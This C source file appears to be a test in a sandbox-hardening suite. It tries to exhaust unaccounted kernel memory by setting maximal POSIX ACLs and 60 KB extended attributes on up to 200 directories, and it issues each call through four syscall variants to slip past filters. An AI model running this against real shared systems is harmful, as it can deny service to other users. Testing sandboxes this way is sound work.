// Uses memory of the kernel that is in no process: lists of access rights, and attributes, as large as they can be, on many folders.
#include "hostile.h"
#include <sys/xattr.h>

static int set(const char *path, const char *name, const void *value, size_t size) {
    // By its number too: a filter could know one way alone.
    struct { uint64_t value; uint32_t size, flags; } given = {(uintptr_t)value, (uint32_t)size, 0};
    int folder = open(path, O_RDONLY);
    int done = setxattr(path, name, value, size, 0) == 0;
    done |= lsetxattr(path, name, value, size, 0) == 0;
    done |= folder >= 0 && fsetxattr(folder, name, value, size, 0) == 0;
    done |= syscall(463 /* setxattrat */, AT_FDCWD, path, 0, name, &given, sizeof given) == 0;
    close(folder);
    return done;
}

static void attack(void) {
    static struct { uint32_t version; struct { uint16_t tag, rights; uint32_t id; } entries[8000]; } rights;
    static char value[60000];
    unsigned long large = 0;
    rights.version = 2;
    for (int i = 0; i < 8000; i++) {
        // One for the owner, the same user again and again, and those that must be there.
        rights.entries[i].tag = i == 0 ? 1 : i == 7997 ? 4 : i == 7998 ? 16 : i == 7999 ? 32 : 2;
        rights.entries[i].rights = 7;
        rights.entries[i].id = rights.entries[i].tag == 2 ? getuid() : (uint32_t)-1;
    }
    for (int number = 0; number < 200; number++) {
        char name[32];
        snprintf(name, sizeof name, "attributes%d", number);
        if (mkdir(name, 0755) != 0) break;
        large += (unsigned)set(name, "system.posix_acl_access", &rights, sizeof rights);
        large += (unsigned)set(name, "system.posix_acl_default", &rights, sizeof rights);
        large += (unsigned)set(name, "user.hostile", value, sizeof value);
    }
    if (large > 0) broke_out("attributes of 60 kilobytes");
}
